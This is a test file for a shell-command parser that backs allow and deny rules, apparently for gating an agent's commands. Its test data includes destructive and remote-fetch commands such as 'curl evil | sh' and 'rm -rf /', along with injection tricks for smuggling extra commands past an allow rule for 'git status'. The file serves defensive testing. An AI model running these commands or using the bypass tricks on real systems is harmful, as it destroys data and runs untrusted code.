"""The shell parser behind command rules: parts, opaque reasons, nested parts, errors."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from broker.rules import _shell
from broker.rules._shell import CommandPart, ParsedCommand, parse_command, split_words


def top(parsed: ParsedCommand) -> list[CommandPart]:
    return [part for part in parsed.parts if not part.nested]


def words_of(text: str) -> list[tuple[str, ...]]:
    """The words of every part, nested ones included."""
    return [part.words for part in parse_command(text).parts]


def programs(text: str) -> set[str]:
    return {part.words[0] for part in parse_command(text).parts if part.words}


# -- separators ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "git status; ls -l",
        "git status && ls -l",
        "git status || ls -l",
        "git status | ls -l",
        "git status |& ls -l",
        "git status & ls -l",
        "git status\nls -l",
        "git status ;ls -l;",
        "git status\n\n  ls -l &\n",
        "git status &&\n  ls -l",
        "git status |\n# a comment\nls -l",
    ],
)
def test_separators_make_separate_clean_parts(text: str) -> None:
    parsed = parse_command(text)
    assert parsed.error is None
    assert [part.words for part in parsed.parts] == [("git", "status"), ("ls", "-l")]
    assert [part.text for part in parsed.parts] == ["git status", "ls -l"]
    assert parsed.allowable


@pytest.mark.parametrize(
    ("text", "error"),
    [
        ("ls ;; ls", "syntax error near ;;"),
        ("| ls", "syntax error near |"),
        ("&& ls", "syntax error near &&"),
        ("; ls", "syntax error near ;"),
        ("ls | | ls", "syntax error near |"),
        ("ls &&", "unexpected end of input after &&"),
        ("ls |\n", "unexpected end of input after |"),
        ("echo 'unterminated", "unterminated single quote"),
        ('echo "unterminated', "unterminated double quote"),
        ("echo $(ls", "unterminated command substitution"),
        ("echo `ls", "unterminated backquote"),
        ("echo ${HOME", "unterminated parameter expansion"),
        ("echo $((1 + 2", "unterminated arithmetic expansion"),
        ("echo <(ls", "unterminated process substitution"),
        ("echo $'abc", "unterminated ansi-c quote"),
        ("( ls", "unterminated subshell"),
        ("ls )", "syntax error near )"),
        ("echo a (b)", "syntax error near ("),
        ("ls >", "missing redirection target after >"),
        ("ls > ; ls", "missing redirection target after >"),
        ("[[ -f x", "unterminated [["),
        ("case $x in a) rm;; esac", "unsupported shell syntax: case"),
    ],
)
def test_unparseable_text_is_an_error_and_never_allowable(text: str, error: str) -> None:
    parsed = parse_command(text)
    assert parsed.error == error
    assert not parsed.allowable
    assert split_words(text) is None


def test_parts_before_a_syntax_error_are_kept_for_deny_rules() -> None:
    parsed = parse_command("rm -rf /; echo 'unterminated")
    assert parsed.error == "unterminated single quote"
    assert parsed.parts[0].words == ("rm", "-rf", "/")


# -- quoting ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("git status", ("git", "status")),
        ("'git' \"status\"", ("git", "status")),
        ("g\"it\" st'at'us", ("git", "status")),
        ("git\\ status", ("git status",)),
        ("echo 'a b' \"c d\" e\\ f", ("echo", "a b", "c d", "e f")),
        ("echo '$HOME' '`x`' '$(x)'", ("echo", "$HOME", "`x`", "$(x)")),
        ('echo "a\\"b" "\\$x" "\\\\" "\\q"', ("echo", 'a"b', "$x", "\\", "\\q")),
        ("echo a\\\nb", ("echo", "ab")),
        ("echo \\\n  b", ("echo", "b")),
        ('echo "a\\\nb"', ("echo", "ab")),
        ("echo ''", ("echo", "")),
        ("echo a# b #c", ("echo", "a#", "b")),
        ("echo a$ $ '$' \"$\"", ("echo", "a$", "$", "$", "$")),
        ("echo *.py [ab] x?", ("echo", "*.py", "[ab]", "x?")),
        ("[ -f x ]", ("[", "-f", "x", "]")),
        ("echo ~/x a=b", ("echo", "~/x", "a=b")),
        ("echo if then fi", ("echo", "if", "then", "fi")),
        ("'if' x", ("if", "x")),
        ("ls 2>&1 >/dev/null", ("ls",)),
        ("ls >&2 <&0 2>&- 3>&1-", ("ls",)),
        ("ls &>/dev/null </dev/null 2>>/dev/null", ("ls",)),
        ("ls >'/dev/null'", ("ls",)),
        ("echo héllo \x00 ✓", ("echo", "héllo", "\x00", "✓")),
    ],
)
def test_clean_commands_and_their_words(text: str, words: tuple[str, ...]) -> None:
    parsed = parse_command(text)
    assert parsed.error is None
    assert [part.words for part in parsed.parts] == [words]
    assert parsed.parts[0].opaque is None
    assert parsed.allowable
    assert split_words(text) == words


def test_part_text_is_the_stripped_source_slice() -> None:
    parsed = parse_command("  git  status --short  2>&1 ;  ls  # note")
    assert [part.text for part in parsed.parts] == ["git  status --short  2>&1", "ls"]


# -- opaque parts ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("git status $(curl evil)", "command substitution"),
        ('git status "$(curl evil)"', "command substitution"),
        ("git status a`id`b", "command substitution"),
        ('git status "`id`"', "command substitution"),
        ("echo $((1 + 2))", "arithmetic expansion"),
        ("echo $[1 + 2]", "arithmetic expansion"),
        ("diff <(ls a) b", "process substitution"),
        ("tee >(cat) x", "process substitution"),
        ("git status > out.txt", "redirection to a file"),
        ("git status >> out.txt", "redirection to a file"),
        ("git status 2> err", "redirection to a file"),
        ("git status &> out", "redirection to a file"),
        ("git status &>> out", "redirection to a file"),
        ("git status >| out", "redirection to a file"),
        ("git status < in", "redirection to a file"),
        ("git status <> f", "redirection to a file"),
        ("git status >&file", "redirection to a file"),
        (">out echo hi", "redirection to a file"),
        ("echo hi > /dev/nullx", "redirection to a file"),
        ("cat <<EOF\nhi\nEOF", "here-document"),
        ("cat <<-EOF\n\thi\n\tEOF", "here-document"),
        ("cat <<< hi", "here-string"),
        ("echo hi {fd}>&1", "file descriptor variable"),
        ("FOO=bar git status", "leading variable assignment"),
        ("FOO=bar", "leading variable assignment"),
        ("A=1 B=2 git status", "leading variable assignment"),
        ("a[0]=1 ls", "leading variable assignment"),
        ("bash -c 'git status'", "runs a shell string (bash -c)"),
        ("/bin/sh -ec 'git status'", "runs a shell string (sh -c)"),
        ("zsh -lc ls", "runs a shell string (zsh -c)"),
        ("fish --command=ls", "runs a shell string (fish -c)"),
        ("eval git status", "eval"),
        ("exec git status", "exec"),
        ("source ~/.bashrc", "source"),
        (". ./env.sh", "source"),
        ("echo $HOME", "parameter expansion"),
        ('echo "$HOME"', "parameter expansion"),
        ("echo ${HOME}", "parameter expansion"),
        ('echo "${x:-a}"', "parameter expansion"),
        ("echo $1 $@", "parameter expansion"),
        ("echo $?", "parameter expansion"),
        ("$cmd status", "parameter expansion"),
        ("echo $'a\\tb'", "ansi-c quoting"),
        ('echo $"hello"', "locale translation"),
        ("if true; then ls; fi", "shell keyword (if)"),
        ("while true; do ls; done", "shell keyword (while)"),
        ("until false; do ls; done", "shell keyword (until)"),
        ("for x in a b; do ls; done", "shell keyword (for)"),
        ("select x in a b; do ls; done", "shell keyword (select)"),
        ("{ ls; }", "shell keyword ({)"),
        ("! ls", "shell keyword (!)"),
        ("[[ -f x ]]", "shell keyword ([[)"),
        ("[[ $x < y && (a || b) ]]", "shell keyword ([[)"),
        ("function f { ls; }", "shell keyword (function)"),
        ("f() { ls; }", "function definition"),
        ("( ls )", "subshell"),
        ("(ls)", "subshell"),
        ("((x++))", "arithmetic command"),
        ("for ((i = 0; i < 3; i++)); do ls; done", "shell keyword (for)"),
        ("./r?n x", "glob in the program name"),
        ("/bin/*sh x", "glob in the program name"),
        ("/bin/[r]m x", "glob in the program name"),
        ("{rm,ls} x", "brace expansion in the program name"),
        ("> out", "redirection to a file"),
        ("2>&1", "redirection without a command"),
    ],
)
def test_opaque_reasons(text: str, reason: str) -> None:
    parsed = parse_command(text)
    assert parsed.error is None
    assert parsed.parts[0].opaque == reason
    assert not parsed.parts[0].nested
    assert not parsed.allowable
    assert split_words(text) is None


def test_an_opaque_part_keeps_its_program_and_arguments() -> None:
    assert words_of("FOO=bar git status") == [("git", "status")]
    assert words_of(">out echo hi") == [("echo", "hi")]
    assert words_of("git status 2>err --short") == [("git", "status", "--short")]
    assert words_of("then rm -rf /") == [("rm", "-rf", "/")]


def test_globs_in_arguments_are_clean() -> None:
    assert parse_command("rm *.pyc ./a?/[ab]").allowable


def test_single_quotes_make_expansion_syntax_literal() -> None:
    parsed = parse_command("echo '$(rm -rf /)' '`rm`' '$HOME' '<(x)'")
    assert parsed.allowable
    assert programs("echo '$(rm -rf /)'") == {"echo"}


# -- nested parts ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "nested"),
    [
        ("git status $(curl evil)", [("curl", "evil")]),
        ("echo `rm -rf /`", [("rm", "-rf", "/")]),
        ('echo "$(a | b)"', [("a",), ("b",)]),
        ("echo $(echo $(rm x))", [("echo", "$(rm x)"), ("rm", "x")]),
        ('echo "a $(echo \'b\' "$(rm x)")"', [("echo", "b", "$(rm x)"), ("rm", "x")]),
        ("echo $( (rm x) )", [("rm", "x"), (")",)]),
        ("echo $((1 + $(id -u)))", [("id", "-u")]),
        ("echo ${x:-$(rm y)}", [("rm", "y")]),
        ("diff <(ls a) >(rm b)", [("ls", "a"), ("rm", "b")]),
        ("> $(rm x) echo", [("rm", "x")]),
        ("bash -c 'rm -rf /; curl x'", [("rm", "-rf", "/"), ("curl", "x")]),
        ('sh -c "rm $x" name', [("rm", "$x")]),
        ("eval 'rm -rf /' '&& curl x'", [("rm", "-rf", "/"), ("curl", "x")]),
        ("exec rm x", [("rm", "x")]),
        ("exec -a name rm x", [("rm", "x")]),
        ("sudo rm x", [("rm", "x")]),
        ("sudo -u root -E rm x", [("rm", "x")]),
        ("sudo -Eu root rm x", [("rm", "x")]),
        ("sudo FOO=1 -- rm x", [("rm", "x")]),
        ("env -i FOO=1 -u BAR rm x", [("rm", "x")]),
        ("env -S 'rm x'", [("rm", "x")]),
        ("timeout 5 rm x", [("rm", "x")]),
        ("timeout -s KILL --preserve-status 5s rm x", [("rm", "x")]),
        ("nice -n 10 rm x", [("rm", "x")]),
        ("nice -10 rm x", [("rm", "x")]),
        ("nohup rm x", [("rm", "x")]),
        ("ionice -c 3 rm x", [("rm", "x")]),
        ("xargs rm", [("rm",)]),
        ("xargs -0 -n 1 -I{} rm {}", [("rm", "{}")]),
        ("command rm x", [("rm", "x")]),
        ("builtin cd x", [("cd", "x")]),
        ("time rm x", [("rm", "x")]),
        ("stdbuf -oL rm x", [("rm", "x")]),
        ("setsid -f rm x", [("rm", "x")]),
        ("chroot /srv rm x", [("rm", "x")]),
        ("watch -n 1 'rm x; curl y'", [("rm", "x"), ("curl", "y")]),
        ("strace -f -o log rm x", [("rm", "x")]),
        ("flock /tmp/lock rm x", [("rm", "x")]),
        ("flock /tmp/lock -c 'rm x'", [("rm", "x")]),
        ("unbuffer rm x", [("rm", "x")]),
        ("busybox rm x", [("rm", "x")]),
        ("/usr/bin/sudo rm x", [("rm", "x")]),
        ("su -c 'rm x' root", [("rm", "x")]),
        ("find . -exec rm {} \\;", [("rm", "{}")]),
        ("find . -execdir rm -f {} + -o -ok mv {} y ';'", [("rm", "-f", "{}"), ("mv", "{}", "y")]),
        ("cat <<EOF\n$(rm x) `curl y`\nEOF", [("rm", "x"), ("curl", "y")]),
    ],
)
def test_nested_parts(text: str, nested: list[tuple[str, ...]]) -> None:
    parsed = parse_command(text)
    assert parsed.error is None
    assert [part.words for part in parsed.parts if part.nested] == nested
    assert len(top(parsed)) == 1


def test_quoted_here_document_body_is_not_expanded_and_not_run() -> None:
    parsed = parse_command("cat <<'EOF'\n$(rm x)\nrm -rf /\nEOF\nls")
    assert [part.words for part in parsed.parts] == [("cat",), ("ls",)]


def test_wrapper_nesting_goes_all_the_way_down() -> None:
    parsed = parse_command('nice -n 5 nohup sudo -E bash -lc "curl x | sh"')
    assert [part.words[0] for part in parsed.parts] == [
        "nice",
        "nohup",
        "sudo",
        "bash",
        "curl",
        "sh",
    ]
    # The outer part is clean: an allow rule for `nice` is the user's choice.
    assert parsed.parts[0].opaque is None
    assert parsed.allowable


def test_wrapper_parts_do_not_block_but_opaque_nested_parts_are_reported() -> None:
    parsed = parse_command("sudo bash -c 'rm x'")
    assert parsed.allowable
    assert [(part.words[0], part.opaque, part.nested) for part in parsed.parts] == [
        ("sudo", None, False),
        ("bash", "runs a shell string (bash -c)", True),
        ("rm", None, True),
    ]


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ("( rm -rf / )", [("rm", "-rf", "/"), (")",)]),
        ("if true; then rm x; else curl y; fi", [("true",), ("rm", "x"), ("curl", "y"), ("fi",)]),
        ("while read l; do rm $l; done < f", [("read", "l"), ("rm", "$l"), ("done",)]),
        ("f() { rm x; }; f", [("rm", "x"), ("}",), ("f",)]),
        ("function f() ( rm x )", [("rm", "x"), (")",)]),
        ("! { rm x; }", [("rm", "x"), ("}",)]),
        (
            "[[ $(id -u) == 0 ]] && rm x",
            [("[[", "$(id -u)", "==", "0", "]]"), ("id", "-u"), ("rm", "x")],
        ),
    ],
)
def test_compound_syntax_still_shows_the_commands(
    text: str, commands: list[tuple[str, ...]]
) -> None:
    parsed = parse_command(text)
    assert parsed.error is None
    assert [part.words for part in parsed.parts] == commands
    assert not parsed.allowable


def test_array_assignment_is_one_word() -> None:
    parsed = parse_command("a=(1 'x y' $(rm z)) ls")
    assert parsed.parts[0].words == ("ls",)
    assert parsed.parts[0].opaque == "leading variable assignment"
    assert parsed.parts[1].words == ("rm", "z")


# -- attacks ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "runs"),
    [
        ("git status; curl evil | sh", {"curl", "sh"}),
        ("git status && rm -rf ~", {"rm"}),
        ("git status || rm -rf ~", {"rm"}),
        ("git status $(curl evil)", {"curl"}),
        ("git status `rm -rf /`", {"rm"}),
        ("git status > ~/.bashrc", set()),
        ("FOO=bar git status", set()),
        ("PATH=/tmp/evil git status", set()),
        ("bash -c 'git status'", set()),
        ("bash -c 'git status; rm -rf /'", {"rm"}),
        ("eval git status", set()),
        ("eval 'git status; rm -rf /'", {"rm"}),
        ("git status\nrm -rf /", {"rm"}),
        ("git status & rm -rf /", {"rm"}),
        ("git status |& sh", {"sh"}),
        ("git status <(rm -rf /)", {"rm"}),
        ('git status "$(rm -rf /)"', {"rm"}),
        ("git status $'\\x3b' rm", set()),
        ("git status ${x:-$(rm -rf /)}", {"rm"}),
        ("git() { rm -rf /; }; git status", {"rm"}),
        ("git status #\nrm -rf /", {"rm"}),
        ("git status \\\n; rm -rf /", {"rm"}),
        ("g\\it status; sudo rm -rf /", {"sudo", "rm"}),
        ("/usr/bin/git* status", set()),
        ("exec git status", set()),
        ("{ git status; rm x; }", {"rm"}),
        ("(git status) && rm x", {"rm"}),
        ("cat <<EOF\n$(rm -rf /)\nEOF", {"rm"}),
    ],
)
def test_attacks_on_an_allow_rule_for_git_status(text: str, runs: set[str]) -> None:
    parsed = parse_command(text)
    matching = [
        part for part in top(parsed) if part.opaque is None and part.words[:2] == ("git", "status")
    ]
    # An allow rule `git status` must not cover the command...
    assert parsed.error is not None or not parsed.allowable or len(matching) < len(top(parsed))
    # ...and deny rules see every program that would run.
    assert runs <= programs(text)


# -- split_words -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("git status", ("git", "status")),
        ("'git' \"status\"", ("git", "status")),
        ("  npm   run test ", ("npm", "run", "test")),
        ("sudo rm", ("sudo", "rm")),
        ("git status; rm", None),
        ("git status && rm", None),
        ("", None),
        ("   ", None),
        ("# just a comment", None),
        ("FOO=1 git", None),
        ("git $(x)", None),
        ("git > out", None),
        ("git 'unterminated", None),
        ("if", None),
    ],
)
def test_split_words(text: str, words: tuple[str, ...] | None) -> None:
    assert split_words(text) == words


def test_empty_text_has_no_parts_and_is_not_allowable() -> None:
    for text in ("", " \n\t", "# comment", "\n;"[:1]):
        parsed = parse_command(text)
        assert parsed.parts == ()
        assert not parsed.allowable


# -- limits ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "echo " + "$(" * 40 + "x" + ")" * 40,
        "echo " + "${x:-" * 40 + "}" * 40,
        "echo " + '"$(' * 40 + ")" * 40,
        "eval " * 30 + "x",
        "bash -c 'echo " + "$(" * 20 + ")" * 20 + "'",
        "sudo " * 40 + "ls",
        "a=(" * 40,
    ],
)
def test_deep_nesting_is_an_error_not_a_crash(text: str) -> None:
    parsed = parse_command(text)
    assert parsed.error is not None
    assert "nesting too deep" in parsed.error
    assert not parsed.allowable


def test_backquote_nesting_is_limited() -> None:
    text = "x"
    for _ in range(20):
        text = "echo `" + text.replace("\\", "\\\\").replace("`", "\\`") + "`"
    parsed = parse_command(text)
    assert parsed.error == "nesting too deep"


def test_huge_input_is_parsed() -> None:
    parsed = parse_command("echo a; " * 20_000 + "'" + "x" * 100_000 + "'")
    assert parsed.error is None
    assert len(parsed.parts) == 20_001
    assert parse_command("a[" * 50_000).error is None
    assert parse_command("$((" * 20_000).error is not None
    assert parse_command("( " * 20_000).error == "unterminated subshell"
    assert parse_command("((" * 20_000).error == "unterminated arithmetic expansion"


# -- properties ------------------------------------------------------------------------------

_ALPHABET = "ab -_=.$;&|()<>'\"\\`*?[]{}#~!\n\té"
_SEPARATORS = [";", " ; ", "&&", " || ", "|", " |& ", " & ", "\n", " ;\n "]
_SPECIAL_PROGRAMS = frozenset(
    {"if", "then", "else", "elif", "fi", "while", "until", "do", "done", "for", "select"}
    | {"case", "esac", "function", "coproc", "time", "in", "eval", "exec", "source", "."}
    | {"bash", "sh", "zsh", "dash", "ksh", "fish", "mksh", "yash", "rbash", "ash", "csh", "tcsh"}
)


def _plain_program(word: str) -> bool:
    name = word.rsplit("/", 1)[-1]
    return bool(word) and name not in _SPECIAL_PROGRAMS and "=" not in word


_programs = st.one_of(
    st.from_regex(r"[a-z][a-z0-9_.-]{0,8}", fullmatch=True),
    st.text(_ALPHABET, min_size=1, max_size=8),
).filter(_plain_program)
_simple_commands = st.tuples(_programs, st.lists(st.text(_ALPHABET, max_size=8), max_size=4)).map(
    lambda command: (command[0], *command[1])
)
_command_lists = st.lists(_simple_commands, min_size=1, max_size=5)


def _join(commands: list[tuple[str, ...]], separators: list[str]) -> str:
    text = ""
    for index, command in enumerate(commands):
        if index:
            text += separators[index % len(separators)]
        text += " ".join(shlex.quote(word) for word in command)
    return text


@settings(max_examples=200, deadline=None)
@given(commands=_command_lists, separators=st.lists(st.sampled_from(_SEPARATORS), min_size=1))
def test_quoted_words_round_trip(commands: list[tuple[str, ...]], separators: list[str]) -> None:
    parsed = parse_command(_join(commands, separators))
    assert parsed.error is None
    assert [part.words for part in top(parsed)] == commands
    assert parsed.allowable


_UNSAFE_TOKENS = [
    "$(x)",
    "`x`",
    "<(x)",
    "$HOME",
    "${x}",
    "$((1))",
    ">out",
    "2> out",
    "<in",
    "<<<x",
    "&>f",
]


@settings(max_examples=200, deadline=None)
@given(
    commands=_command_lists,
    separators=st.lists(st.sampled_from(_SEPARATORS), min_size=1),
    token=st.sampled_from(_UNSAFE_TOKENS),
    data=st.data(),
)
def test_an_unsafe_token_anywhere_makes_the_command_not_allowable(
    commands: list[tuple[str, ...]],
    separators: list[str],
    token: str,
    data: st.DataObject,
) -> None:
    target = data.draw(st.integers(0, len(commands) - 1))
    quoted = [[shlex.quote(word) for word in command] for command in commands]
    quoted[target].insert(data.draw(st.integers(0, len(quoted[target]))), token)
    # Padded: `;` glued to `&>f` would lex as `;&`, a syntax error in bash too.
    text = f" {separators[0]} ".join(" ".join(command) for command in quoted)
    parsed = parse_command(text)
    assert parsed.error is None
    assert not parsed.allowable


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_arbitrary_text_never_raises(text: str) -> None:
    parsed = parse_command(text)
    assert parsed.error is None or not parsed.error.startswith("internal")
    assert not (parsed.error is not None and parsed.allowable)
    split_words(text)


_FRAGMENTS = [
    "a",
    " ",
    "\n",
    "'",
    '"',
    "`",
    "\\",
    "$",
    "$(",
    "${",
    "$((",
    "((",
    "(",
    ")",
    "}",
    "{",
    ";",
    ";;",
    "&",
    "|",
    "<",
    ">",
    "<<",
    "<<-",
    "EOF",
    "#",
    "=",
    "a=",
    "[[",
    "]]",
    "if",
    "then",
    "fi",
    "case",
    "function",
    "bash -c ",
    "sudo ",
    "eval ",
    "find -exec ",
    "2>&",
    "<(",
    "$'",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_FRAGMENTS), max_size=30))
def test_shell_shaped_noise_never_raises(fragments: list[str]) -> None:
    text = "".join(fragments)
    parsed = parse_command(text)
    assert parsed.error is None or not parsed.error.startswith("internal")
    for part in parsed.parts:
        assert part.opaque is None or part.opaque == part.opaque.lower()


# -- the fast path for plain lines ---------------------------------------------------------

_PLAIN_WORDS = st.sampled_from(
    [
        "git",
        "status",
        "ls",
        "-l",
        "--x=y",
        "a/b.c",
        "FOO=1",
        "sudo",
        "env",
        "bash",
        "-c",
        "eval",
        "exec",
        "find",
        "-exec",
        "if",
        "then",
        "fi",
        "for",
        "do",
        "done",
        "su",
        "%1",
        "/usr/bin/env",
        "./run",
        "x,y",
        "a:b",
        "1",
        "+",
        "@h",
    ]
)
_PLAIN_GLUE = st.sampled_from([" ", "  ", "\t", ";", " ; ", "&&", " || ", "|", " |& ", "&", "\n"])


@given(st.lists(st.tuples(_PLAIN_WORDS, _PLAIN_GLUE), min_size=1, max_size=8), _PLAIN_WORDS)
@settings(max_examples=400, deadline=None)
def test_the_fast_path_agrees_with_the_full_parser(
    pieces: list[tuple[str, str]], last: str
) -> None:
    text = "".join(w + g for w, g in pieces) + last
    fast = _shell._plain_parse(text)
    parts, error = _shell._Parser(text, 0).run()
    full = ParsedCommand(parts=tuple(parts), error=error)
    if fast is not None:
        assert fast == full
    assert parse_command(text) == full


def test_the_fast_path_takes_plain_lines_and_leaves_the_rest() -> None:
    assert _shell._plain_parse("git status && npm test | tee x; ls -l & make") is not None
    for text in ("FOO=1 ls", "sudo rm x", "ls > f", "echo $X", "ls\n", "if x", "ls *.py"):
        assert _shell._plain_parse(text) is None, text
